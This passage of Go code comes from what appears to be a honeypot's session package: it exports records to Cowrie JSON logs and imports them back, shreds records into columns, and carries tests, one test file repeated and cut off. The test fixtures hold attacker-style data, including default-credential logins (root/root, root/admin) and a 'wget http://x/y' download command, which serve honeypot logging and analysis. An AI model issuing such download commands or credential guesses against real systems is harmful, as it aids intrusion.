	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"strconv"
	"time"
)

// CowrieEvent is one event in Cowrie's JSON log format — the format the
// real honeynet's collectors ingest. Exporting our records in it lets
// existing Cowrie analysis tooling consume simulated or live data from
// this honeypot unchanged.
type CowrieEvent struct {
	EventID   string `json:"eventid"`
	Session   string `json:"session"`
	SrcIP     string `json:"src_ip"`
	SrcPort   int    `json:"src_port,omitempty"`
	DstIP     string `json:"dst_ip,omitempty"`
	Timestamp string `json:"timestamp"`
	Sensor    string `json:"sensor"`

	// Event-specific fields.
	Username string  `json:"username,omitempty"`
	Password string  `json:"password,omitempty"`
	Input    string  `json:"input,omitempty"`
	Message  string  `json:"message,omitempty"`
	Version  string  `json:"version,omitempty"`
	URL      string  `json:"url,omitempty"`
	SHASum   string  `json:"shasum,omitempty"`
	Outfile  string  `json:"outfile,omitempty"`
	Duration float64 `json:"duration,omitempty"`
	Protocol string  `json:"protocol,omitempty"`
}

// Cowrie event ids.
const (
	CowrieConnect      = "cowrie.session.connect"
	CowrieClientVer    = "cowrie.client.version"
	CowrieLoginSuccess = "cowrie.login.success"
	CowrieLoginFailed  = "cowrie.login.failed"
	CowrieCommandInput = "cowrie.command.input"
	CowrieFileDownload = "cowrie.session.file_download"
	CowrieClosed       = "cowrie.session.closed"
)

// cowrieTime formats timestamps the way Cowrie logs them.
func cowrieTime(t time.Time) string {
	return t.UTC().Format("2006-01-02T15:04:05.000000Z")
}

// CowrieEvents converts a session record to the ordered Cowrie event
// stream that would have produced it: connect, client version, login
// attempts, command inputs, file downloads, close.
func (r *Record) CowrieEvents() []CowrieEvent {
	sid := fmt.Sprintf("%012x", r.ID)
	base := func(eventid string, at time.Time) CowrieEvent {
		return CowrieEvent{
			EventID:   eventid,
			Session:   sid,
			SrcIP:     r.ClientIP,
			SrcPort:   r.ClientPort,
			DstIP:     r.HoneypotIP,
			Timestamp: cowrieTime(at),
			Sensor:    r.HoneypotID,
			Protocol:  r.Protocol,
		}
	}
	// Spread intermediate events between start and end so the stream is
	// monotone.
	span := r.End.Sub(r.Start)
	steps := len(r.Logins) + len(r.Commands) + len(r.Downloads) + 2
	tick := func(i int) time.Time {
		if steps <= 1 || span <= 0 {
			return r.Start
		}
		return r.Start.Add(span * time.Duration(i) / time.Duration(steps))
	}

	var out []CowrieEvent
	i := 0
	ev := base(CowrieConnect, tick(i))
	ev.Message = fmt.Sprintf("New connection: %s:%d (%s:22) [session: %s]", r.ClientIP, r.ClientPort, r.HoneypotIP, sid)
	out = append(out, ev)
	i++

	if r.ClientVersion != "" {
		ev = base(CowrieClientVer, tick(i))
		ev.Version = r.ClientVersion
		out = append(out, ev)
		i++
	}
	for _, l := range r.Logins {
		id := CowrieLoginFailed
		msg := "login attempt [%s/%s] failed"
		if l.Success {
			id = CowrieLoginSuccess
			msg = "login attempt [%s/%s] succeeded"
		}
		ev = base(id, tick(i))
		ev.Username = l.Username
		ev.Password = l.Password
		ev.Message = fmt.Sprintf(msg, l.Username, l.Password)
		out = append(out, ev)
		i++
	}
	for _, c := range r.Commands {
		ev = base(CowrieCommandInput, tick(i))
		ev.Input = c.Raw
		ev.Message = "CMD: " + c.Raw
		out = append(out, ev)
		i++
	}
	for _, d := range r.Downloads {
		ev = base(CowrieFileDownload, tick(i))
		ev.URL = d.URI
		ev.SHASum = d.Hash
		if d.Hash != "" {
			ev.Outfile = "var/lib/cowrie/downloads/" + d.Hash
		}
		out = append(out, ev)
		i++
	}
	ev = base(CowrieClosed, tick(steps))
	ev.Duration = r.End.Sub(r.Start).Seconds()
	ev.Message = "Connection lost"
	out = append(out, ev)
	return out
}

// ReadCowrieJSONL parses a Cowrie event log (the cowrie.json format,
// plain or gzip-compressed) back into session records, grouping events
// by session id in first-seen order. The reconstruction is lossy where
// the event format is: command emulation status, exec attempts, state
// changes, and timeouts are not present in Cowrie events, so those
// fields stay zero. Records import with Protocol defaulting to "ssh"
// when the events carry none.
func ReadCowrieJSONL(r io.Reader) ([]*Record, error) {
	rr, err := MaybeGzipReader(r)
	if err != nil {
		return nil, err
	}
	br := bufio.NewReaderSize(rr, 1<<20)
	index := map[string]*Record{}
	var out []*Record
	lineNo := 0
	for {
		line, rerr := br.ReadBytes('\n')
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 {
			lineNo++
			var ev CowrieEvent
			if uerr := json.Unmarshal(trimmed, &ev); uerr != nil {
				return nil, fmt.Errorf("session: cowrie event %d: %w", lineNo, uerr)
			}
			rec, ok := index[ev.Session]
			if !ok {
				rec = &Record{Protocol: ProtoSSH}
				if id, perr := strconv.ParseUint(ev.Session, 16, 64); perr == nil {
					rec.ID = id
				}
				index[ev.Session] = rec
				out = append(out, rec)
			}
			applyCowrieEvent(rec, &ev)
		}
		if rerr != nil {
			if rerr == io.EOF {
				return out, nil
			}
			return nil, rerr
		}
	}
}

// applyCowrieEvent folds one event into its session record.
func applyCowrieEvent(rec *Record, ev *CowrieEvent) {
	ts, _ := time.Parse("2006-01-02T15:04:05.000000Z", ev.Timestamp)
	if ev.Protocol != "" {
		rec.Protocol = ev.Protocol
	}
	switch ev.EventID {
	case CowrieConnect:
		rec.Start = ts
		rec.End = ts
		rec.ClientIP = ev.SrcIP
		rec.ClientPort = ev.SrcPort
		rec.HoneypotIP = ev.DstIP
		rec.HoneypotID = ev.Sensor
	case CowrieClientVer:
		rec.ClientVersion = ev.Version
	case CowrieLoginSuccess, CowrieLoginFailed:
		rec.Logins = append(rec.Logins, LoginAttempt{
			Username: ev.Username,
			Password: ev.Password,
			Success:  ev.EventID == CowrieLoginSuccess,
		})
	case CowrieCommandInput:
		rec.Commands = append(rec.Commands, Command{Raw: ev.Input})
	case CowrieFileDownload:
		rec.Downloads = append(rec.Downloads, Download{URI: ev.URL, Hash: ev.SHASum})
	case CowrieClosed:
		if !ts.IsZero() {
			rec.End = ts
		} else if ev.Duration > 0 && !rec.Start.IsZero() {
			rec.End = rec.Start.Add(time.Duration(ev.Duration * float64(time.Second)))
		}
	}
}

// WriteCowrieJSONL streams the records' Cowrie event logs to w, one JSON
// event per line (the cowrie.json format).
func WriteCowrieJSONL(w io.Writer, recs []*Record) error {
	bw := bufio.NewWriterSize(w, 1<<20)
	enc := json.NewEncoder(bw)
	for _, r := range recs {
		for _, ev := range r.CowrieEvents() {
			if err := enc.Encode(ev); err != nil {
				return err
			}
		}
	}
	return bw.Flush()
}
