package session

import (
	"bytes"
	"compress/gzip"
	"io"
	"testing"
	"testing/quick"
	"time"
)

func TestKindTaxonomy(t *testing.T) {
	cases := []struct {
		name string
		rec  Record
		want Kind
	}{
		{"scanning", Record{}, Scanning},
		{"scouting", Record{Logins: []LoginAttempt{{Username: "root", Password: "root"}}}, Scouting},
		{"scouting multi", Record{Logins: []LoginAttempt{{}, {}, {}}}, Scouting},
		{"intrusion", Record{Logins: []LoginAttempt{{Success: true}}}, Intrusion},
		{"intrusion after fails", Record{Logins: []LoginAttempt{{}, {Success: true}}}, Intrusion},
		{"cmdexec", Record{
			Logins:   []LoginAttempt{{Success: true}},
			Commands: []Command{{Raw: "uname"}},
		}, CommandExec},
	}
	for _, c := range cases {
		if got := c.rec.Kind(); got != c.want {
			t.Errorf("%s: Kind = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestKindStrings(t *testing.T) {
	for _, k := range []Kind{Scanning, Scouting, Intrusion, CommandExec} {
		if k.String() == "" || k.String()[0] == 'k' {
			t.Errorf("kind %d has no proper name: %q", k, k.String())
		}
	}
}

func TestCommandText(t *testing.T) {
	r := Record{Commands: []Command{{Raw: "uname -a"}, {Raw: "nproc"}}}
	if got := r.CommandText(); got != "uname -a\nnproc" {
		t.Errorf("CommandText = %q", got)
	}
	var empty Record
	if empty.CommandText() != "" {
		t.Error("empty record must have empty text")
	}
}

func TestMonthAndDay(t *testing.T) {
	r := Record{Start: time.Date(2022, 3, 17, 13, 45, 0, 0, time.UTC)}
	if got := r.Month(); !got.Equal(time.Date(2022, 3, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("Month = %v", got)
	}
	if got := r.Day(); !got.Equal(time.Date(2022, 3, 17, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("Day = %v", got)
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	recs := []*Record{
		{
			ID: 1, Start: time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC),
			HoneypotID: "hp-1", ClientIP: "10.0.0.1", Protocol: ProtoSSH,
			Logins:   []LoginAttempt{{Username: "root", Password: "admin", Success: true}},
			Commands: []Command{{Raw: `echo -e "\x6F\x6B"`, Known: true}},
			Downloads: []Download{
				{URI: "http://10.9.9.9/x", SourceIP: "10.9.9.9", Hash: "ab", Size: 10},
			},
			ExecAttempts:  []ExecAttempt{{Path: "/tmp/x", FileExists: true, Hash: "ab"}},
			StateChanged:  true,
			DroppedHashes: []string{"ab"},
		},
		{ID: 2, ClientIP: "10.0.0.2", Protocol: ProtoTelnet},
	}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	got, err := ReadAll(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 {
		t.Fatalf("read %d records", len(got))
	}
	if got[0].Commands[0].Raw != recs[0].Commands[0].Raw {
		t.Errorf("command lost: %+v", got[0].Commands)
	}
	if got[0].Kind() != CommandExec || got[1].Kind() != Scanning {
		t.Error("kinds lost across serialization")
	}
	if got[0].Downloads[0].SourceIP != "10.9.9.9" {
		t.Errorf("download lost: %+v", got[0].Downloads)
	}
}

func TestReadAllRejectsGarbage(t *testing.T) {
	if _, err := ReadAll(bytes.NewBufferString("{\"id\":1}\nnot json\n")); err == nil {
		t.Error("garbage input must fail")
	}
}

func TestKindClassificationProperty(t *testing.T) {
	// Property: Kind is consistent with its defining predicates.
	f := func(nFails uint8, success bool, nCmds uint8) bool {
		var r Record
		for i := 0; i < int(nFails%5); i++ {
			r.Logins = append(r.Logins, LoginAttempt{})
		}
		if success {
			r.Logins = append(r.Logins, LoginAttempt{Success: true})
			for i := 0; i < int(nCmds%4); i++ {
				r.Commands = append(r.Commands, Command{Raw: "x"})
			}
		}
		k := r.Kind()
		switch {
		case len(r.Logins) == 0:
			return k == Scanning
		case !success:
			return k == Scouting
		case len(r.Commands) == 0:
			return k == Intrusion
		default:
			return k == CommandExec
		}
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestMaybeGzipReader(t *testing.T) {
	payload := []byte(`{"id":1,"start":"2022-01-02T03:04:05Z","end":"2022-01-02T03:05:05Z","hp":"hp-1","client_ip":"10.0.0.1","proto":"ssh"}` + "\n")

	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	if _, err := zw.Write(payload); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}

	for _, tc := range []struct {
		name string
		in   []byte
	}{
		{"plain", payload},
		{"gzip", gz.Bytes()},
	} {
		r, err := MaybeGzipReader(bytes.NewReader(tc.in))
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		got, err := io.ReadAll(r)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if !bytes.Equal(got, payload) {
			t.Errorf("%s: read %q, want %q", tc.name, got, payload)
		}
	}

	// Degenerate inputs must not error: empty and single-byte streams
	// are shorter than the magic.
	for _, in := range [][]byte{nil, {0x1f}} {
		r, err := MaybeGzipReader(bytes.NewReader(in))
		if err != nil {
			t.Fatalf("short input: %v", err)
		}
		got, err := io.ReadAll(r)
		if err != nil {
			t.Fatalf("short input read: %v", err)
		}
		if !bytes.Equal(got, in) {
			t.Errorf("short input: read %q, want %q", got, in)
		}
	}
}

func TestReadAllTransparentGzip(t *testing.T) {
	recs := []*Record{
		{ID: 7, Start: time.Date(2022, 3, 1, 0, 0, 0, 0, time.UTC), ClientIP: "10.0.0.7", Protocol: ProtoSSH},
	}
	var plain bytes.Buffer
	w := NewWriter(&plain)
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	if _, err := zw.Write(plain.Bytes()); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	got, err := ReadAll(&gz)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].ID != 7 {
		t.Fatalf("gzip ReadAll = %+v", got)
	}
}
