package session

import "math"

// Column shredding for the store's v3 columnar segments: a canonical
// record line is split into one raw JSON fragment per top-level field,
// the fragments are stored in per-field column stripes, and a masked
// read reassembles only the fields a query projects. Shredding is
// purely structural — fragments are verbatim byte slices of the input —
// so AppendAssembled(ShredJSON(line)) == line whenever ShredJSON
// accepts, and a line it rejects (non-canonical key order, unknown
// keys, trailing data) is stored whole in the segment's raw overflow
// column instead. FuzzColumnShred pins both properties.

// Column indices, in the canonical key order AppendJSON emits. The
// first six and proto are always present on canonical lines; the rest
// are omitempty and absent fragments are nil.
const (
	ColID = iota
	ColStart
	ColEnd
	ColHP
	ColHPIP
	ColClientIP
	ColClientPort
	ColProto
	ColClientVer
	ColLogins
	ColCmds
	ColDls
	ColExecs
	ColStateChanged
	ColHashes
	ColTimeout

	// NumColumns is the number of per-field columns a record shreds
	// into.
	NumColumns
)

// colKeys holds the exact key literal preceding each column's value in
// a canonical line. ColID's differs because it opens the object.
var colKeys = [NumColumns]string{
	ColID:           `{"id":`,
	ColStart:        `,"start":`,
	ColEnd:          `,"end":`,
	ColHP:           `,"hp":`,
	ColHPIP:         `,"hp_ip":`,
	ColClientIP:     `,"client_ip":`,
	ColClientPort:   `,"client_port":`,
	ColProto:        `,"proto":`,
	ColClientVer:    `,"client_ver":`,
	ColLogins:       `,"logins":`,
	ColCmds:         `,"cmds":`,
	ColDls:          `,"dls":`,
	ColExecs:        `,"execs":`,
	ColStateChanged: `,"state_changed":`,
	ColHashes:       `,"hashes":`,
	ColTimeout:      `,"timeout":`,
}

// ColumnName reports the JSON key of column c (for diagnostics).
func ColumnName(c int) string {
	k := colKeys[c]
	return k[2 : len(k)-2]
}

// Columns holds one record's shredded fragments. Fragments alias the
// line passed to ShredJSON — they are only valid while it is.
type Columns [NumColumns][]byte

// ColumnSet is a bitmask over column indices.
type ColumnSet uint32

// Has reports whether column c is in the set.
func (s ColumnSet) Has(c int) bool { return s&(1<<uint(c)) != 0 }

// AllColumns selects every column.
const AllColumns ColumnSet = 1<<NumColumns - 1

// requiredColumns are the columns DecodeColumns always reads: the
// always-decoded scalars of DecodeMasked (ID, Start, ClientPort,
// Protocol, StateChanged, TimedOut).
const requiredColumns ColumnSet = 1<<ColID | 1<<ColStart | 1<<ColClientPort |
	1<<ColProto | 1<<ColStateChanged | 1<<ColTimeout

// ColumnsForMask reports which columns a DecodeColumns call with the
// given mask reads: the always-decoded scalars plus the masked
// sections. A store reader can skip every other column at the byte
// level.
func ColumnsForMask(keep FieldMask) ColumnSet {
	s := requiredColumns
	for _, m := range [...]struct {
		f   FieldMask
		col int
	}{
		{FEnd, ColEnd},
		{FHoneypotID, ColHP},
		{FHoneypotIP, ColHPIP},
		{FClientIP, ColClientIP},
		{FClientVersion, ColClientVer},
		{FLogins, ColLogins},
		{FCommands, ColCmds},
		{FDownloads, ColDls},
		{FExecs, ColExecs},
		{FHashes, ColHashes},
	} {
		if keep&m.f != 0 {
			s |= 1 << uint(m.col)
		}
	}
	return s
}

// ShredJSON splits a canonical record line into per-field fragments,
// overwriting cols. It accepts exactly the structural shape AppendJSON
// produces — the canonical key sequence with any omitempty subset —
// without parsing field values, and reports false (cols undefined) for
// anything else. On success every fragment is a verbatim subslice of
// line and AppendAssembled reconstructs line byte-identically.
func ShredJSON(line []byte, cols *Columns) (ok bool) {
	defer func() {
		if p := recover(); p != nil {
			if _, bail := p.(errBailFast); bail {
				ok = false
				return
			}
			panic(p)
		}
	}()
	*cols = Columns{}
	p := &jsonDec{d: line}
	p.lit(colKeys[ColID])
	cols[ColID] = p.rawValue()
	for c := ColStart; c < NumColumns; c++ {
		if colRequired(c) {
			p.lit(colKeys[c])
		} else if !p.tryLit(colKeys[c]) {
			continue
		}
		cols[c] = p.rawValue()
	}
	p.byte('}')
	if p.i != len(p.d) {
		p.bail()
	}
	return true
}

// colRequired reports whether a canonical line always carries column c
// (fields AppendJSON emits unconditionally).
func colRequired(c int) bool {
	switch c {
	case ColID, ColStart, ColEnd, ColHP, ColClientIP, ColProto:
		return true
	}
	return false
}

// AppendAssembled appends the canonical line the fragments came from
// and returns the extended buffer: the inverse of ShredJSON.
func AppendAssembled(dst []byte, cols *Columns) []byte {
	for c := 0; c < NumColumns; c++ {
		if cols[c] == nil {
			continue
		}
		dst = append(dst, colKeys[c]...)
		dst = append(dst, cols[c]...)
	}
	return append(dst, '}')
}

// rawValue scans one JSON value without interpreting it and returns the
// verbatim bytes. Strings and nested structures are tracked exactly;
// numeric tokens are consumed greedily (validation happens at decode
// time, not shred time — assembly is byte-identical either way).
func (p *jsonDec) rawValue() []byte {
	start := p.i
	switch c := p.peek(); {
	case c == '"':
		p.skipStr()
	case c == '[' || c == '{':
		p.i++
		p.skipArrayTail()
	case c == 't':
		p.lit("true")
	case c == 'f':
		p.lit("false")
	case c == 'n':
		p.lit("null")
	case c == '-' || ('0' <= c && c <= '9'):
		p.i++
		for p.i < len(p.d) {
			switch b := p.d[p.i]; {
			case '0' <= b && b <= '9', b == '.', b == 'e', b == 'E', b == '+', b == '-':
				p.i++
			default:
				return p.d[start:p.i]
			}
		}
	default:
		p.bail()
	}
	return p.d[start:p.i]
}

// DecodeColumns decodes shredded fragments directly into r,
// guaranteeing the same sections as DecodeMasked(keep): the
// always-decoded scalars plus the masked fields. Only the columns in
// ColumnsForMask(keep) are touched, so callers may leave the rest nil.
// It reports false (r undefined) when a fragment is not canonical — the
// caller then reassembles the full line and takes the stdlib decode
// path, exactly like DecodeMasked's fallback.
func (d *JSONDecoder) DecodeColumns(cols *Columns, r *Record, keep FieldMask) bool {
	*r = Record{}
	return d.DecodeColumnsPrefilled(cols, r, keep, 0)
}

// DecodeColumnsPrefilled is DecodeColumns for callers that zeroed r
// themselves and prefilled some of the always-decoded scalars from a
// cheaper source (the v3 sidecar stripes hold start nanos and the
// protocol dictionary verbatim). Columns in skip are never read — their
// fragments may be nil — and the corresponding record fields keep
// whatever the caller stored. Only ColStart, ColProto, and ColClientIP
// are honored in skip. On a false return r is undefined; the fallback
// whole-line decode re-zeroes it.
func (d *JSONDecoder) DecodeColumnsPrefilled(cols *Columns, r *Record, keep FieldMask, skip ColumnSet) (ok bool) {
	defer func() {
		if p := recover(); p != nil {
			if _, bail := p.(errBailFast); bail {
				ok = false
				return
			}
			panic(p)
		}
	}()
	p := &jsonDec{scratch: &d.scratch}
	if v, okv := fragUint(cols[ColID]); okv {
		r.ID = v
	} else {
		p.bail()
	}
	if !skip.Has(ColStart) {
		p.frag(cols[ColStart]).time(&r.Start)
		p.done()
	}
	if keep&FEnd != 0 {
		p.frag(cols[ColEnd]).time(&r.End)
		p.done()
	}
	if keep&FHoneypotID != 0 {
		r.HoneypotID = p.frag(cols[ColHP]).str()
		p.done()
	}
	if keep&FHoneypotIP != 0 && cols[ColHPIP] != nil {
		r.HoneypotIP = p.frag(cols[ColHPIP]).str()
		p.done()
	}
	if keep&FClientIP != 0 && !skip.Has(ColClientIP) {
		r.ClientIP = p.frag(cols[ColClientIP]).str()
		p.done()
	}
	if cols[ColClientPort] != nil {
		if v, okv := fragInt(cols[ColClientPort]); okv {
			r.ClientPort = int(v)
		} else {
			p.bail()
		}
	}
	if !skip.Has(ColProto) {
		r.Protocol = p.frag(cols[ColProto]).str()
		p.done()
	}
	if keep&FClientVersion != 0 && cols[ColClientVer] != nil {
		r.ClientVersion = p.frag(cols[ColClientVer]).str()
		p.done()
	}
	if keep&FLogins != 0 && cols[ColLogins] != nil {
		p.frag(cols[ColLogins]).byte('[')
		r.Logins = p.loginsArr()
		p.done()
	}
	if keep&FCommands != 0 && cols[ColCmds] != nil {
		p.frag(cols[ColCmds]).byte('[')
		r.Commands = p.cmdsArr()
		p.done()
	}
	if keep&FDownloads != 0 && cols[ColDls] != nil {
		p.frag(cols[ColDls]).byte('[')
		r.Downloads = p.dlsArr()
		p.done()
	}
	if keep&FExecs != 0 && cols[ColExecs] != nil {
		p.frag(cols[ColExecs]).byte('[')
		r.ExecAttempts = p.execsArr()
		p.done()
	}
	if b := cols[ColStateChanged]; b != nil {
		if string(b) == "true" {
			r.StateChanged = true
		} else if string(b) != "false" {
			p.bail()
		}
	}
	if keep&FHashes != 0 && cols[ColHashes] != nil {
		p.frag(cols[ColHashes]).byte('[')
		r.DroppedHashes = p.hashesArr()
		p.done()
	}
	if b := cols[ColTimeout]; b != nil {
		if string(b) == "true" {
			r.TimedOut = true
		} else if string(b) != "false" {
			p.bail()
		}
	}
	return true
}

// fragUint parses a whole fragment as a canonical JSON unsigned
// integer: digits only, no leading zero, fitting uint64 — exactly the
// lines frag().uint() followed by done() accepts, without the decoder
// setup. ok is false for anything else; the caller bails.
func fragUint(b []byte) (v uint64, ok bool) {
	if len(b) == 0 || (b[0] == '0' && len(b) > 1) {
		return 0, false
	}
	if len(b) <= 19 {
		// At most 19 digits can't overflow uint64 (MaxUint64 has 20),
		// so the common case skips the per-digit range check.
		for _, c := range b {
			if c-'0' > 9 {
				return 0, false
			}
			v = v*10 + uint64(c-'0')
		}
		return v, true
	}
	for _, c := range b {
		if c-'0' > 9 {
			return 0, false
		}
		d := uint64(c - '0')
		if v > (math.MaxUint64-d)/10 {
			return 0, false
		}
		v = v*10 + d
	}
	return v, true
}

// fragInt is fragUint with an optional leading minus, mirroring
// frag().int() + done() including its range checks and "-0".
func fragInt(b []byte) (int64, bool) {
	if len(b) > 0 && b[0] == '-' {
		v, ok := fragUint(b[1:])
		if !ok || v > 1<<63 {
			return 0, false
		}
		return -int64(v), true
	}
	v, ok := fragUint(b)
	if !ok || v > math.MaxInt64 {
		return 0, false
	}
	return int64(v), true
}

// frag repoints the decoder at one fragment.
func (p *jsonDec) frag(b []byte) *jsonDec {
	if b == nil {
		p.bail()
	}
	p.d, p.i = b, 0
	return p
}

// done requires the current fragment to be fully consumed.
func (p *jsonDec) done() {
	if p.i != len(p.d) {
		p.bail()
	}
}
