package session

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"
)

func cowrieFixture() *Record {
	return &Record{
		ID:            0xabc,
		Start:         time.Date(2022, 5, 1, 12, 0, 0, 0, time.UTC),
		End:           time.Date(2022, 5, 1, 12, 0, 30, 0, time.UTC),
		HoneypotID:    "hp-007",
		HoneypotIP:    "198.18.0.7",
		ClientIP:      "10.1.2.3",
		ClientPort:    43210,
		Protocol:      ProtoSSH,
		ClientVersion: "SSH-2.0-libssh2_1.8.2",
		Logins: []LoginAttempt{
			{Username: "root", Password: "root"},
			{Username: "root", Password: "admin", Success: true},
		},
		Commands: []Command{{Raw: "uname -a", Known: true}, {Raw: "wget http://x/y", Known: true}},
		Downloads: []Download{
			{URI: "http://x/y", SourceIP: "10.9.9.9", Hash: "deadbeef", Size: 12},
		},
	}
}

func TestCowrieEventsStructure(t *testing.T) {
	evs := cowrieFixture().CowrieEvents()
	var ids []string
	for _, e := range evs {
		ids = append(ids, e.EventID)
	}
	want := []string{
		CowrieConnect, CowrieClientVer,
		CowrieLoginFailed, CowrieLoginSuccess,
		CowrieCommandInput, CowrieCommandInput,
		CowrieFileDownload, CowrieClosed,
	}
	if len(ids) != len(want) {
		t.Fatalf("event ids = %v", ids)
	}
	for i := range want {
		if ids[i] != want[i] {
			t.Errorf("event %d = %s, want %s", i, ids[i], want[i])
		}
	}
	// All events share the session id and sensor.
	sid := evs[0].Session
	for _, e := range evs {
		if e.Session != sid || e.Sensor != "hp-007" || e.SrcIP != "10.1.2.3" {
			t.Errorf("event meta inconsistent: %+v", e)
		}
	}
	// Timestamps are monotone non-decreasing.
	for i := 1; i < len(evs); i++ {
		if evs[i].Timestamp < evs[i-1].Timestamp {
			t.Errorf("timestamps not monotone: %s then %s", evs[i-1].Timestamp, evs[i].Timestamp)
		}
	}
	// Download event carries hash and outfile path.
	dl := evs[6]
	if dl.URL != "http://x/y" || dl.SHASum != "deadbeef" || !strings.Contains(dl.Outfile, "deadbeef") {
		t.Errorf("download event = %+v", dl)
	}
	// Close event records the duration.
	if evs[len(evs)-1].Duration != 30 {
		t.Errorf("duration = %v", evs[len(evs)-1].Duration)
	}
}

func TestCowrieEventMessages(t *testing.T) {
	evs := cowrieFixture().CowrieEvents()
	if !strings.Contains(evs[2].Message, "[root/root] failed") {
		t.Errorf("failed login message = %q", evs[2].Message)
	}
	if !strings.Contains(evs[3].Message, "[root/admin] succeeded") {
		t.Errorf("success login message = %q", evs[3].Message)
	}
	if evs[4].Input != "uname -a" || !strings.HasPrefix(evs[4].Message, "CMD: ") {
		t.Errorf("command event = %+v", evs[4])
	}
}

func TestWriteCowrieJSONL(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCowrieJSONL(&buf, []*Record{cowrieFixture(), {ID: 2, ClientIP: "10.0.0.2", Protocol: ProtoSSH,
		Start: time.Date(2022, 5, 2, 0, 0, 0, 0, time.UTC), End: time.Date(2022, 5, 2, 0, 0, 1, 0, time.UTC)}}); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	n := 0
	for sc.Scan() {
		var ev CowrieEvent
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %d not valid JSON: %v", n, err)
		}
		if ev.EventID == "" || ev.Timestamp == "" {
			t.Fatalf("line %d missing fields: %s", n, sc.Text())
		}
		n++
	}
	// Fixture has 8 events; the bare scan record has connect + close.
	if n != 10 {
		t.Errorf("events = %d, want 10", n)
	}
}

func TestCowrieTimestampFormat(t *testing.T) {
	evs := cowrieFixture().CowrieEvents()
	if _, err := time.Parse("2006-01-02T15:04:05.000000Z", evs[0].Timestamp); err != nil {
		t.Errorf("timestamp %q not in cowrie format: %v", evs[0].Timestamp, err)
	}
}
