package session

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"strings"
	"testing"
	"time"
)

func cowrieFixture() *Record {
	return &Record{
		ID:            0xabc,
		Start:         time.Date(2022, 5, 1, 12, 0, 0, 0, time.UTC),
		End:           time.Date(2022, 5, 1, 12, 0, 30, 0, time.UTC),
		HoneypotID:    "hp-007",
		HoneypotIP:    "198.18.0.7",
		ClientIP:      "10.1.2.3",
		ClientPort:    43210,
		Protocol:      ProtoSSH,
		ClientVersion: "SSH-2.0-libssh2_1.8.2",
		Logins: []LoginAttempt{
			{Username: "root", Password: "root"},
			{Username: "root", Password: "admin", Success: true},
		},
		Commands: []Command{{Raw: "uname -a", Known: true}, {Raw: "wget http://x/y", Known: true}},
		Downloads: []Download{
			{URI: "http://x/y", SourceIP: "10.9.9.9", Hash: "deadbeef", Size: 12},
		},
	}
}

func TestCowrieEventsStructure(t *testing.T) {
	evs := cowrieFixture().CowrieEvents()
	var ids []string
	for _, e := range evs {
		ids = append(ids, e.EventID)
	}
	want := []string{
		CowrieConnect, CowrieClientVer,
		CowrieLoginFailed, CowrieLoginSuccess,
		CowrieCommandInput, CowrieCommandInput,
		CowrieFileDownload, CowrieClosed,
	}
	if len(ids) != len(want) {
		t.Fatalf("event ids = %v", ids)
	}
	for i := range want {
		if ids[i] != want[i] {
			t.Errorf("event %d = %s, want %s", i, ids[i], want[i])
		}
	}
	// All events share the session id and sensor.
	sid := evs[0].Session
	for _, e := range evs {
		if e.Session != sid || e.Sensor != "hp-007" || e.SrcIP != "10.1.2.3" {
			t.Errorf("event meta inconsistent: %+v", e)
		}
	}
	// Timestamps are monotone non-decreasing.
	for i := 1; i < len(evs); i++ {
		if evs[i].Timestamp < evs[i-1].Timestamp {
			t.Errorf("timestamps not monotone: %s then %s", evs[i-1].Timestamp, evs[i].Timestamp)
		}
	}
	// Download event carries hash and outfile path.
	dl := evs[6]
	if dl.URL != "http://x/y" || dl.SHASum != "deadbeef" || !strings.Contains(dl.Outfile, "deadbeef") {
		t.Errorf("download event = %+v", dl)
	}
	// Close event records the duration.
	if evs[len(evs)-1].Duration != 30 {
		t.Errorf("duration = %v", evs[len(evs)-1].Duration)
	}
}

func TestCowrieEventMessages(t *testing.T) {
	evs := cowrieFixture().CowrieEvents()
	if !strings.Contains(evs[2].Message, "[root/root] failed") {
		t.Errorf("failed login message = %q", evs[2].Message)
	}
	if !strings.Contains(evs[3].Message, "[root/admin] succeeded") {
		t.Errorf("success login message = %q", evs[3].Message)
	}
	if evs[4].Input != "uname -a" || !strings.HasPrefix(evs[4].Message, "CMD: ") {
		t.Errorf("command event = %+v", evs[4])
	}
}

func TestWriteCowrieJSONL(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCowrieJSONL(&buf, []*Record{cowrieFixture(), {ID: 2, ClientIP: "10.0.0.2", Protocol: ProtoSSH,
		Start: time.Date(2022, 5, 2, 0, 0, 0, 0, time.UTC), End: time.Date(2022, 5, 2, 0, 0, 1, 0, time.UTC)}}); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	n := 0
	for sc.Scan() {
		var ev CowrieEvent
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %d not valid JSON: %v", n, err)
		}
		if ev.EventID == "" || ev.Timestamp == "" {
			t.Fatalf("line %d missing fields: %s", n, sc.Text())
		}
		n++
	}
